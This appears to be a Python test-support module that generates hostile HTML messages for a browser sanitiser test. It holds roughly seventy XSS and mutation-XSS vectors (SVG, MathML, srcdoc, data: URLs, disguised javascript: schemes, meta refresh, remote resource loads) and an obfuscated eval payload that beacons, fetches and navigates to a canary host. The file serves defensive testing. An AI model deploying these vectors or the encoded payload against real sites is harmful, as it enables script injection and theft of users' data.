"""
Hostile HTML messages for the browser test: every vector of
L{harbor.test.xssvectors} and more, each armed so that it leaves a trace
the test can see if it ever runs or loads anything.

The vectors of L{harbor.test.xssvectors} call C{alert(1)}.  A sandboxed
frame without C{allow-modals} would swallow that alert even if the
script ran, so an alert alone proves little; here every C{alert(1)} is
replaced by L{payload}, a script written without spaces or quotes (so it
fits every place C{alert(1)} stood: unquoted attributes, C{javascript:}
URLs, entity-encoded and base64 forms re-encoded alike) that, run
anywhere, posts a message to the parent and the top window, logs to the
console, sets the top document's title and the top window's name, and
fetches, beacons, loads an image from, opens a window on and navigates
to the canary.  Every C{https://evil.example} URL is pointed at the canary
too, so a stylesheet, import or image that loads is a hit.

The vectors added here cover what that list leaves out: more SVG and
MathML, namespace confusion (mXSS), C{srcdoc}, C{data:} documents, meta
refresh and C{<base>} aimed at the canary (navigation needs no script and
no Content-Security-Policy covers it), and every way HTML and CSS fetch a
resource without script, for the remote-image rule.
"""

from __future__ import annotations

import base64
import re

from harbor.test.xssvectors import XSS_VECTORS

#: The marker every trace carries.
MARK = "xss:"

_ENTITY_ALERT = "&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;"
_BASE64 = re.compile(r"base64,([A-Za-z0-9+/=]+)")


def script(name: str, canary: str) -> str:
    """
    The JavaScript a vector runs if it runs at all: every trace it can
    leave, each tried on its own so that one refused does not stop the
    others.
    """
    url = f"{canary}/js/{name}"
    steps = [
        f"parent.postMessage('{MARK}{name}','*')",
        f"top.postMessage('{MARK}{name}','*')",
        f"console.log('{MARK}{name}')",
        "top.document.title='XSS'",
        f"top.name='{MARK}{name}'",
        f"navigator.sendBeacon('{url}/beacon')",
        f"fetch('{url}/fetch')",
        f"new Image().src='{url}/image'",
        f"open('{url}/open')",
        f"top.location='{url}/top'",
        f"location='{url}/self'",
    ]
    return "".join(f"try{{{step}}}catch(e){{}}" for step in steps)


def payload(name: str, canary: str) -> str:
    """
    L{script} as one JavaScript expression of letters, digits and
    C{./(){},}: no space, quote or C{>}, so it fits wherever C{alert(1)}
    did.  The script travels as hexadecimal in a regular expression's
    source and is decoded and evaluated.
    """
    encoded = script(name, canary).encode().hex()
    return f"eval(/{encoded}/.source.replace(/../g,function(h){{return(String.fromCharCode(parseInt(h,16)))}}))"


def _entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def _rebase64(vector: str, name: str, canary: str) -> str:
    def arm(match: re.Match[str]) -> str:
        decoded = base64.b64decode(match.group(1)).decode()
        if "alert(1)" not in decoded:
            return match.group(0)
        return "base64," + base64.b64encode(decoded.replace("alert(1)", payload(name, canary)).encode()).decode()

    return _BASE64.sub(arm, vector)


def arm(name: str, vector: str, canary: str) -> str:
    """
    A vector of L{harbor.test.xssvectors} with its C{alert(1)} (plain,
    entity-encoded or in base64) replaced by L{payload} and its
    C{https://evil.example} URLs pointed at the canary.
    """
    armed = _rebase64(vector, name, canary)
    armed = armed.replace(_ENTITY_ALERT, _entities(payload(name, canary)))
    armed = armed.replace("alert(1)", payload(name, canary))
    return armed.replace("https://evil.example", f"{canary}/evil/{name}")


# Vectors added here: {js} is where the payload goes, {url} a canary URL
# of the vector's own.
_EXTRA: list[tuple[str, str]] = [
    # SVG.
    ("svg-onload-self-closing", "<svg/onload={js}>"),
    ("svg-set-onbegin", "<svg><set attributeName=x onbegin={js} /></svg>"),
    ("svg-animate-onbegin", "<svg><animate onbegin={js} attributeName=x dur=1s /></svg>"),
    ("svg-image-onerror", "<svg><image href=x onerror={js} /></svg>"),
    ("svg-use-data", '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=1 onerror={js} /></svg>#x" /></svg>'),
    ("svg-style-cdata", "<svg><style><![CDATA[</style><img src=x onerror={js}>]]></style></svg>"),
    ("svg-script-href", '<svg><script href="{url}/s.js"></script></svg>'),
    ("svg-a-xlink-mixed-case", '<svg><a xlink:href="JaVaScRiPt:{js}"><rect width=99 height=99 /></a></svg>'),
    ("svg-image-remote", '<svg><image href="{url}/svg-image.png" /></svg>'),
    ("svg-feimage-remote", '<svg><filter id=f><feImage href="{url}/fe.png" /></filter><rect filter=url(#f) width=9 height=9 /></svg>'),
    # MathML and namespace confusion (mutation XSS).
    ("math-xlink-href", '<math><maction actiontype=statusline xlink:href="javascript:{js}">click</maction></math>'),
    ("math-annotation-xml", '<math><annotation-xml encoding="text/html"><img src=x onerror={js}></annotation-xml></math>'),
    ("mxss-math-style", "<math><mi><table><mi><style><img src=x onerror={js}></style></mi></table></mi></math>"),
    ("mxss-svg-p-style", "<svg></p><style><a id=\"</style><img src=1 onerror={js}>\">"),
    ("mxss-form-math", "<form><math><mtext></form><form><mglyph><style></math><img src onerror={js}>"),
    ("mxss-noscript-comment", "<noscript><!--</noscript><img src=x onerror={js}>--></noscript>"),
    ("mxss-select-template", "<select><template><style><!--</style><img src=x onerror={js}>--></style></template></select>"),
    ("mxss-svg-title", "<svg><title><style><img src=x onerror={js}></style></title></svg>"),
    ("mxss-backtick-comment", "<!--`<img/src=` onerror={js}>-->"),
    # Frames and documents of their own.
    ("iframe-srcdoc-entities", '<iframe srcdoc="&lt;img src=x onerror={js}&gt;"></iframe>'),
    ("iframe-data-html", '<iframe src="data:text/html,<script>{js}</script>"></iframe>'),
    ("iframe-data-html-base64", '<iframe src="data:text/html;base64,{js64}"></iframe>'),
    ("iframe-remote", '<iframe src="{url}/frame.html"></iframe>'),
    ("object-remote", '<object data="{url}/object.html"></object>'),
    ("embed-svg-remote", '<embed src="{url}/embed.svg" type="image/svg+xml">'),
    ("portal-remote", '<portal src="{url}/portal.html"></portal>'),
    # Navigation without script.
    ("meta-refresh-remote", '<meta http-equiv="refresh" content="0;url={url}/refresh">'),
    ("meta-refresh-mixed-case", '<META HTTP-EQUIV="Refresh" CONTENT="0; URL={url}/refresh2">'),
    ("meta-refresh-in-body", '<p>x</p><meta http-equiv="refresh" content="0;url={url}/refresh3">'),
    ("base-href-remote", '<base href="{url}/base/"><img src="pixel.png"><a href="x">x</a>'),
    ("base-target-top", '<base target="_top"><a id=go href="{url}/base-target">x</a>'),
    ("form-autosubmit-remote", '<form action="{url}/form" method=get><input name=q value=1 autofocus onfocus=this.form.submit()></form>'),
    ("form-action-javascript-mixed", '<form action="jAvAsCrIpT:{js}"><input type=submit></form>'),
    ("a-ping", '<a href="#" ping="{url}/ping">x</a>'),
    # javascript: URLs in disguise.
    ("a-javascript-percent-encoded", '<a href="javascript:%65{jstail}">x</a>'),
    ("a-javascript-colon-entity", '<a href="javascript&colon;{js}">x</a>'),
    ("a-javascript-tab-entity", '<a href="java&Tab;script:{js}">x</a>'),
    ("a-javascript-newline-entity", '<a href="java&NewLine;script:{js}">x</a>'),
    ("a-javascript-control-prefix", '<a href="\x01javascript:{js}">x</a>'),
    ("a-javascript-url-encoded-scheme", '<a href="%6Aavascript:{js}">x</a>'),
    ("iframe-javascript-mixed", '<iframe src="JAVASCRIPT:{js}"></iframe>'),
    ("embed-javascript", '<embed src="javascript:{js}">'),
    # Handlers that need no user.
    ("body-onpageshow", "<body onpageshow={js}>x</body>"),
    ("img-onload-data", '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload={js}>'),
    ("input-image-onerror", "<input type=image src=x onerror={js}>"),
    ("object-onerror", "<object data=x onerror={js}></object>"),
    ("style-onload", "<style onload={js}></style>"),
    ("link-onload", '<link rel=stylesheet href="data:text/css," onload={js}>'),
    ("animation-onanimationstart", "<style>@keyframes k{{}}</style><b style=animation-name:k onanimationstart={js}>x</b>"),
    ("transition-ontransitionend", "<b style=\"transition:color 1ms\" id=t ontransitionend={js}>x</b>"),
    ("iframe-onload", "<iframe onload={js}></iframe>"),
    ("body-onresize", "<body onresize={js}>x</body>"),
    ("svg-onfocusin-autofocus", "<svg><a tabindex=1 autofocus onfocusin={js}><rect width=9 height=9 /></a></svg>"),
    ("details-ontoggle-uppercase", "<DETAILS OPEN ONTOGGLE={js}>x</DETAILS>"),
    # Resources fetched without script: each would hit the canary.
    ("img-remote", '<img src="{url}/img.png">'),
    ("img-srcset-remote", '<img srcset="{url}/srcset.png 1x">'),
    ("picture-source-remote", '<picture><source srcset="{url}/picture.png"><img src=x></picture>'),
    ("video-poster-remote", '<video poster="{url}/poster.png"></video>'),
    ("audio-remote", '<audio src="{url}/audio.mp3" autoplay></audio>'),
    ("input-image-remote", '<input type=image src="{url}/input.png">'),
    ("body-background-remote", '<body background="{url}/body-bg.png">x</body>'),
    ("table-background-remote", '<table background="{url}/table-bg.png"><tr><td>x</td></tr></table>'),
    ("td-background-remote", '<table><tr><td background="{url}/td-bg.png">x</td></tr></table>'),
    ("style-attribute-url", '<div style="background-image:url({url}/style-attr.png)">x</div>'),
    ("style-element-url", "<style>p{{background:url({url}/style-el.png)}}</style><p>x</p>"),
    ("style-import-url", "<style>@import url({url}/import.css);</style>x"),
    ("style-font-face", "<style>@font-face{{font-family:f;src:url({url}/font.woff)}}p{{font-family:f}}</style><p>x</p>"),
    ("style-list-image", '<ul style="list-style-image:url({url}/list.png)"><li>x</li></ul>'),
    ("style-cursor", '<div style="cursor:url({url}/cursor.png),auto">x</div>'),
    ("style-escaped-url-remote", '<div style="background:\\75\\72\\6c({url}/escaped.png)">x</div>'),
    ("link-prefetch", '<link rel=prefetch href="{url}/prefetch">'),
    ("link-preload", '<link rel=preload as=image href="{url}/preload.png">'),
    ("link-dns-prefetch-icon", '<link rel=icon href="{url}/favicon.ico">'),
]


def extraVectors(canary: str) -> list[tuple[str, str]]:
    """
    The vectors added here, armed.
    """
    armed = []
    for name, template in _EXTRA:
        js = payload(name, canary)
        html = template.format(
            js=js,
            jstail=js[1:],
            url=f"{canary}/extra/{name}",
            js64=base64.b64encode(f"<script>{js}</script>".encode()).decode(),
        )
        armed.append((name, html.replace("alert(1)", js)))
    return armed


def hostileVectors(canary: str) -> list[tuple[str, str]]:
    """
    Every vector, armed: those of L{harbor.test.xssvectors}, then those
    added here.  Names are unique.
    """
    vectors = [(name, arm(name, vector, canary)) for name, vector in XSS_VECTORS] + extraVectors(canary)
    names = [name for name, _ in vectors]
    assert len(names) == len(set(names)), "vector names are unique"
    return vectors
